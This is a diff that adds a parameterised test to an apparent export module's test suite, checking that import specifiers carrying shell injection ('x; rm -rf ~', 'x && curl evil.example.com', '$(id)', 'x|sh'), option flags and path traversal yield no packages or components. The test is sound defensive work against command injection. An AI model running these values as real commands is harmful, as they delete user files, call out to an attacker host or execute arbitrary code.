@@ -52,6 +52,25 @@ describe("an export", () => {
     });
   });
 
+  test.each([
+    "x; rm -rf ~",
+    "x && curl evil.example.com",
+    "$(id)",
+    "`id`",
+    "-g",
+    "--registry",
+    "@a/-b",
+    "../x",
+    "@/components/ui/--yes",
+    "..",
+    "x|sh",
+  ])("says nothing that a shell would run for an import of %p", (specifier) => {
+    expect(importsOf([{ path: "a.tsx", text: `import x from "${specifier}"` }])).toEqual({
+      packages: [],
+      components: [],
+    });
+  });
+
   test("of a version has its files as they are and says what they need", async () => {
     const unpacked = unpack(await versionArchive(project, { chat: chat("Pricing"), version, files }));
     const { "README.md": readme, ...rest } = unpacked;
